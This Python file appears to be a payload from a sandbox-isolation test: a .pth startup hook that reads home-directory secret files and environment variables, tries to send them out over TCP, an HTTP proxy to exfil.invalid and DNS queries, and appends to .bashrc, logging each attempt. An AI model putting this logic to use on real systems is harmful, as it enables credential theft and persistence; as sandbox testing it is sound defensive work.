import errno as _errno, json as _json, os as _os, socket as _socket, sys as _sys
CFG = _json.loads(__CFG__)
def _en(e):
    if isinstance(e, OSError) and e.errno:
        return _errno.errorcode.get(e.errno, "E%d" % e.errno)
    if isinstance(e, (TimeoutError, _socket.timeout)):
        return "TIMEOUT"
    return "EXC:%s:%s" % (type(e).__name__, e)
def run():
    if _os.environ.get("SEAL_TEST_PTH_DONE") == CFG["marker"]:
        return
    _os.environ["SEAL_TEST_PTH_DONE"] = CFG["marker"]
    R = {}
    stolen = []
    def attempt(key, fn):
        try:
            v = fn()
            R[key] = "OK" if v is None else v
        except BaseException as e:
            R[key] = _en(e)
    def rd(p):
        with open(p, "rb") as f:
            stolen.append(f.read(300).decode("utf-8", "replace").strip())
    for rel in CFG["files"]:
        attempt("read_home:" + rel, lambda rel=rel: rd(_os.path.join(_os.path.expanduser("~"), rel)))
        attempt("read_abs:" + rel, lambda rel=rel: rd(_os.path.join(CFG["host_home"], rel)))
    for n in CFG["env"]:
        v = _os.environ.get(n)
        R["env:" + n] = "present" if v else "absent"
        if v:
            stolen.append(v)
    payload = ("EXFIL %s %s" % (CFG["marker"], " ".join(stolen))).encode()
    def tcp_send(host, port, data):
        s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
        s.settimeout(3)
        try:
            s.connect((host, port))
            s.sendall(data)
        finally:
            s.close()
    attempt("tcp_direct", lambda: tcp_send("127.0.0.1", CFG["tcp_port"], payload))
    post = (b"POST http://exfil.invalid/collect HTTP/1.1\r\nHost: exfil.invalid\r\n"
            b"Content-Length: %d\r\n\r\n" % len(payload)) + payload
    px = None
    for k in ("HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy"):
        px = px or _os.environ.get(k)
    R["proxy_env"] = px or "unset"
    if px:
        h, _, p = px.split("://", 1)[-1].split("/", 1)[0].rpartition(":")
        attempt("proxy_via_env", lambda: tcp_send(h, int(p), post))
    attempt("proxy_3128", lambda: tcp_send("127.0.0.1", 3128, post))
    def dns():
        data = "".join("%02x" % b for b in " ".join(stolen).encode()[:31]) or "none"
        q = b"\x53\x45\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
        for label in (CFG["marker"], data, "exfil", "invalid"):
            q += bytes([len(label)]) + label.encode()
        q += b"\x00\x00\x10\x00\x01"
        try:
            s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
        except OSError as e:
            # The fallback mode refuses socket() itself.
            R["dns_send"], R["dns_recv"] = _en(e), "not sent"
            return
        s.settimeout(2)
        try:
            attempt("dns_send", lambda: s.connect(("127.0.0.1", CFG["dns_port"])) or s.send(q) and None)
            if R["dns_send"] == "OK":
                attempt("dns_recv", lambda: s.recv(512) and None)
            else:
                R["dns_recv"] = "not sent"
        finally:
            s.close()
    dns()
    def write(path, mode="w"):
        with open(path, mode) as f:
            f.write("\n# pwned %s\n" % CFG["marker"])
    attempt("write_project", lambda: write(_os.path.join(CFG["project"], "PWNED-" + CFG["marker"])))
    attempt("write_bashrc", lambda: write(_os.path.join(CFG["host_home"], ".bashrc"), "a"))
    here = _os.path.dirname(_os.path.abspath(__file__))
    attempt("write_site_packages", lambda: write(_os.path.join(here, "PWNED-" + CFG["marker"])))
    _sys.stderr.write("SEAL-PTH-LOG " + _json.dumps(R, sort_keys=True) + "\n")
    _sys.stderr.flush()
